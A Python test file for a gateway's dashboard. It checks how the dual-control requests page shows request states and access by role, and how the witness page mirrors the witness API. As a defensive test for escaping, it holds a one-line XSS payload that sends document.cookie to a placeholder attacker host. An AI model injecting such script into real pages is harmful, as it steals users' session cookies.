"""The dashboard's dual-control and witness pages, through the real app: a request made through the API shows with
its state (pending, then confirmed, or expired), an attacker's ``<script>`` reason is escaped, only the
roles ``actions.read`` allows see the requests, and the witness page shows what ``GET /v1/log/witnesses`` answers."""

from __future__ import annotations

import datetime as dt
import html
import re
import time
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from gateway.audit.log import SqlDisclosureLog
from gateway.audit.witnessing import WitnessCollector
from gateway.witness.state import init_witness
from gateway.witness_config import WitnessConfig
from tests.gateway.harness import Env
from tests.gateway.lifecycle_support import confirm_action, use_store
from tests.gateway.test_ui import signed_in
from tlog import parse_vkey

pytestmark = pytest.mark.anyio

ATTACK = '<script>fetch("//evil.example/?c="+document.cookie)</script>'


async def _request_rotation(client: httpx.AsyncClient, env: Env, reason: str) -> dict[str, object]:
    response = await client.post(
        "/v1/admin/actions", headers=env.auth("admin"), json={"action": "keys.rotate_master", "reason": reason}
    )
    assert response.status_code == 202, response.text
    body: dict[str, object] = response.json()
    return body


def _row(page: str, action_id: object) -> str:
    match = re.search(rf'<tr id="action-{action_id}">(.*?)</tr>', page, re.S)
    assert match is not None, f"no row for {action_id}"
    return match.group(1)


async def test_a_pending_request_shows_with_its_state_and_an_escaped_reason(env: Env) -> None:
    use_store(env)  # adds a second approver; confirming needs a distinct principal
    async with env.client() as client:
        empty = await client.get("/ui/actions", headers=env.auth("compliance"))
        assert empty.status_code == 200 and "No request under dual control" in empty.text
        first = await _request_rotation(client, env, "quarterly rotation")
        clock = env.services.clock  # the harness clock stands still: a minute later, so "newest first" is testable
        env.services.clock = lambda: clock() + dt.timedelta(minutes=1)
        attack = await _request_rotation(client, env, ATTACK)
        page = await client.get("/ui/actions", headers=env.auth("compliance"))
    assert page.status_code == 200
    text = page.text
    # The attack: a requester's free-text reason carrying a script. It arrives as text, never as markup.
    assert "<script>" not in text and html.escape(ATTACK, quote=False) in text.replace("&#34;", '"')
    row = _row(text, attack["id"])
    assert "keys.rotate_master" in row and "registry-admin" in row and ">pending<" in row.replace("<br>", "<")
    assert "quarterly rotation" in _row(text, first["id"])
    # Newest first.
    assert text.index(f'id="action-{attack["id"]}"') < text.index(f'id="action-{first["id"]}"')
    assert "no confirm button" in text and "<form" not in text.split("<main", 1)[1].split("</main>")[0]

    async with env.client() as client:
        done = await confirm_action(client, env, str(first["id"]), "approver")
        assert done.status_code == 200, done.text
        confirmed_by = done.json()["confirmed_by"]
        after = await client.get("/ui/actions", headers=env.auth("admin"))
    assert after.status_code == 200
    row = _row(after.text, first["id"])
    # A master-key rotation, once confirmed, waits for the operator's `gateway keys rotate-master --action ID`.
    assert done.json()["state"] == "confirmed"
    assert '<td class="state">confirmed</td>' in row and confirmed_by in row and "pending" not in row
    assert "pending" in _row(after.text, attack["id"])


async def test_an_unconfirmed_request_past_its_expiry_reads_expired(sqlite_env: Env) -> None:
    use_store(sqlite_env)  # for its approver key
    async with sqlite_env.client() as client:
        made = await _request_rotation(client, sqlite_env, "left to lapse")
    # Tamper: the request's expiry pushed into the past, as time passing would; the page must not say "pending".
    with sqlite_env.engine.begin() as conn:
        conn.execute(
            sa.text("UPDATE pending_actions SET expires_at = :t WHERE id = :i"),
            {"t": dt.datetime(2000, 1, 1), "i": made["id"]},
        )
    async with sqlite_env.client() as client:
        page = await client.get("/ui/actions", headers=sqlite_env.auth("approver"))
        api = await client.get("/v1/admin/actions", headers=sqlite_env.auth("approver"))
    assert api.json()["actions"][0]["state"] == "expired"
    row = _row(page.text, made["id"])
    assert "expired" in row and "pending" not in row


async def test_only_overseers_see_the_requests_and_the_nav_follows_the_table(sqlite_env: Env) -> None:
    use_store(sqlite_env)  # for its approver key
    async with sqlite_env.client() as client:
        made = await _request_rotation(client, sqlite_env, "nav check")
        requester = await client.get("/ui/actions", headers=sqlite_env.auth("research"))
        anonymous = await client.get("/ui/actions")
    assert requester.status_code == 403 and str(made["id"]) not in requester.text
    assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/ui/sign-in")
    for who in ("compliance", "admin", "approver"):
        async with signed_in(sqlite_env, who) as client:
            overview = await client.get("/ui/")
        assert 'href="/ui/actions"' in overview.text and 'href="/ui/witnesses"' in overview.text, who


async def test_witness_page_without_witnesses_says_so(sqlite_env: Env) -> None:
    assert sqlite_env.services.witnessing is None
    async with sqlite_env.client() as client:
        page = await client.get("/ui/witnesses", headers=sqlite_env.auth("admin"))
        api = await client.get("/v1/log/witnesses", headers=sqlite_env.auth("admin"))
    assert api.status_code == 404
    assert page.status_code == 200 and "No witnesses configured" in page.text


async def test_witness_page_shows_the_status_the_api_reports(sqlite_env: Env, tmp_path: Path) -> None:
    """A collector with two witnesses, one round run against a stubbed transport: one cannot be reached, the other
    answers 503 (refused), so the head goes unwitnessed; the page shows the same numbers and states as the API."""
    log = sqlite_env.services.log
    assert isinstance(log, SqlDisclosureLog)
    async with sqlite_env.client() as client:
        extracted = await client.post(
            "/v1/agreements/research-continuity/extract", headers=sqlite_env.auth("research"), json={"limit": 1}
        )
    assert extracted.status_code == 200
    log.checkpoint()
    configs = [
        WitnessConfig(name, f"http://{host}.invalid", parse_vkey(init_witness(tmp_path / host, name)))
        for host, name in (("w1", "authority.example/w1"), ("w2", "authority.example/<b>w2</b>"))
    ]

    def stub_witnesses(request: httpx.Request) -> httpx.Response:
        if request.url.host == "w1.invalid":
            raise httpx.ConnectError("down", request=request)
        return httpx.Response(503)

    frozen = time.time() + 90  # a still clock, so the API's answer and the page's are the same instant
    collector = WitnessCollector(sqlite_env.engine, configs, quorum=1, clock=lambda: frozen)
    with httpx.Client(transport=httpx.MockTransport(stub_witnesses)) as stub:
        collector.run_once(stub)
    sqlite_env.services.witnessing = collector
    try:
        async with sqlite_env.client() as client:
            api = await client.get("/v1/log/witnesses", headers=sqlite_env.auth("compliance"))
            page = await client.get("/ui/witnesses", headers=sqlite_env.auth("compliance"))
            requester = await client.get("/ui/witnesses", headers=sqlite_env.auth("research"))
    finally:
        sqlite_env.services.witnessing = None
    assert api.status_code == 200 and page.status_code == 200
    status = api.json()
    assert status["head_size"] > 0 and status["witnessed_size"] == 0 and status["unwitnessed_for_s"] > 0
    text = page.text
    assert f'id="head-size">{status["head_size"]:,}<' in text
    assert 'id="witnessed-size">0<' in text
    assert f'id="unwitnessed">{status["unwitnessed_for_s"]}<' in text
    states = {name: w["state"] for name, w in status["witnesses"].items()}
    assert states == {"authority.example/w1": "unreachable", "authority.example/<b>w2</b>": "refused"}, states
    assert '<td class="state">unreachable</td>' in text and '<td class="state">refused</td>' in text
    # A witness name from the operator's settings is text on the page, never markup.
    assert "<b>w2</b>" not in text and "&lt;b&gt;w2&lt;/b&gt;" in text
    assert requester.status_code == 403 and "head-size" not in requester.text
